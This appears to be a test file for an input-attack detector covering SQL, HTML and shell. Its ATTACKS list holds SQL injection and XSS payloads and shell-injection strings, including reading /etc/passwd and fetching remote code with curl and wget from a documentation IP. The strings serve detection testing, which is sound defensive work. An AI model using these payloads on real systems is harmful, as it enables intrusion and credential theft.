import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { ShapeLanguage } from "../rule.ts";
import { SHAPES, testShape } from "./shapes.ts";

const harmless = readFileSync(fileURLToPath(new URL("harmless.txt", import.meta.url)), "utf8")
  .split("\n")
  .filter((line) => line !== "");

const ATTACKS: Readonly<Record<ShapeLanguage, readonly string[]>> = {
  sql: [
    "1' or '1'='1",
    "admin'--",
    "-1 union all select null,null#",
    "1);waitfor delay '0:0:5'--",
    "x' and extractvalue(1,concat(0x5c,user())) and 'a'='a",
    "(select(0)from(select(sleep(9)))v)",
    "1 procedure analyse(extractvalue(1,2),1)",
    '") or ("a"="a',
    "'||(select 'x' from dual where 1=1)||'",
    "1/**/union/*!50000select*/2",
  ],
  html: [
    "<script>alert(1)</script>",
    '" onfocus=alert(1) autofocus x="',
    "javascript:alert(document.domain)",
    "<svg/onload=confirm`1`>",
    "<a href='jav\tascript:x()'>",
    "';alert(1)//",
    "</title><img src=x onerror=prompt(1)>",
    "<!--#exec cmd='id'-->",
  ],
  shell: [
    "x;id",
    "|cat /etc/passwd",
    "$(curl http://203.0.113.5/a)",
    "`whoami`",
    "wget http://203.0.113.5/a -o /tmp/a",
    "c'a't /etc/hosts",
    "{cat,/etc/hosts}",
    "& for %i in (a b) do echo %i",
    "() { :; }; /bin/true",
  ],
};

describe.each(["sql", "html", "shell"] as const)("the shape of %s", (language) => {
  const { judge, literals } = SHAPES[language];

  test.each(ATTACKS[language])("fits %s", (text) => {
    expect(judge(text.toLowerCase())).not.toBeNull();
  });

  test("fits hardly any text that only looks so", () => {
    const wrong = harmless.filter((line) => judge(line.toLowerCase()) !== null);
    expect(wrong.length / harmless.length, wrong.join("\n")).toBeLessThan(0.03);
  });

  test("fits only texts that hold one of its literals", () => {
    const words = [...literals, "a", "1", "from", "x=", "cat", "alert", "table", "script"];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...words), { maxLength: 12 }), (parts) => {
        const text = parts.join("");
        if (judge(text) !== null) expect(literals.some((literal) => text.includes(literal))).toBe(true);
      }),
    );
  });

  test("is judged in time in proportion to the text", () => {
    const pieces = [
      "'",
      "/*",
      "(",
      "a ",
      "<a ",
      "<a b=",
      "on",
      "{a,",
      "/?",
      "$(",
      "..",
      "if ",
      "&",
      "1,",
      "`",
      "a=",
      "x'",
      "\\",
      "[]",
    ];
    for (const piece of pieces) {
      const started = process.cpuUsage().user;
      judge(piece.repeat(60_000));
      expect(process.cpuUsage().user - started, piece).toBeLessThan(8_000_000);
    }
  });
});

test("a match says which parameter, and where it stands", () => {
  const query = "a=1&id=1%27%20or%201%3D1--&b=2";
  const found = testShape({ kind: "shape", language: "sql", parts: "query" }, query);
  expect(found?.text).toBe("1' or 1=1--");
  expect(found && query.slice(found.start, found.start + found.length)).toBe("1%27%20or%201%3D1--");
});
